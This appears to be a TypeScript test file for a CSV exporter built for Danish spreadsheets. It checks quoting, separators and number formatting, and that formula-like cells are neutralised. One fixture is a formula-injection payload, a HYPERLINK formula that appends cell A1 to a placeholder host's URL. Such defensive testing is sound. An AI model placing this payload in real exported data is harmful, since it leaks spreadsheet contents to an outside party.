import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CSV_BOM, csvCell, csvSections, parseCsv, toCsv } from "./csv-export";

/** Text a spreadsheet would take for a formula, and everything else a name or title can hold. */
const dangerous = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\r\n", "\n", '"', ";", "'");
const cellText = fc.oneof(
  fc.string({ unit: "grapheme" }),
  fc.string({ unit: "binary" }),
  fc
    .tuple(dangerous, fc.string(), fc.array(dangerous), fc.string())
    .map(([start, a, middle, b]) => start + a + middle.join("") + b),
  fc.constantFrom('=HYPERLINK("http://x.test?"&A1;"klik")', "+45 12 34 56 78", "-2+3", "@SUM(A1)"),
);
const rows = fc.array(fc.array(cellText, { minLength: 1, maxLength: 6 }), { maxLength: 8 });

const neutralised = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);

describe("CSV for Danish spreadsheets", () => {
  it("reads back every cell as written, formulas neutralised (property)", () => {
    fc.assert(
      fc.property(rows, (table) => {
        expect(parseCsv(toCsv(table))).toEqual(table.map((row) => row.map(neutralised)));
      }),
      { numRuns: 2000 },
    );
  });

  it("never lets a cell start like a formula (property)", () => {
    fc.assert(
      fc.property(rows, (table) => {
        for (const row of parseCsv(toCsv(table)))
          for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 2000 },
    );
  });

  it("starts with a byte-order mark and ends every row with CRLF", () => {
    fc.assert(
      fc.property(rows, (table) => {
        const text = toCsv(table);
        expect(text.startsWith(CSV_BOM)).toBe(true);
        expect(text === CSV_BOM || text.endsWith("\r\n")).toBe(true);
        expect(parseCsv(text)).toHaveLength(table.length);
      }),
      { numRuns: 500 },
    );
  });

  it("quotes by RFC 4180 with ; as the separator, and writes numbers the Danish way", () => {
    expect(csvCell('Hansen; "Lille" Ole')).toBe('"Hansen; ""Lille"" Ole"');
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("-1")).toBe("'-1");
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("\r=1")).toBe('"\'\r=1"');
    expect(csvCell(12.5)).toBe("12,5");
    expect(csvCell(-3)).toBe("-3");
    expect(csvCell(Number.NaN)).toBe("");
    expect(csvCell(null)).toBe("");
    expect(csvCell("Søren Ærø")).toBe("Søren Ærø");
    expect(
      csvSections([
        { title: "A", rows: [["x", 1]] },
        { title: "B", rows: [] },
      ]),
    ).toBe(`${CSV_BOM}A\r\nx;1\r\n\r\nB\r\n`);
  });
});
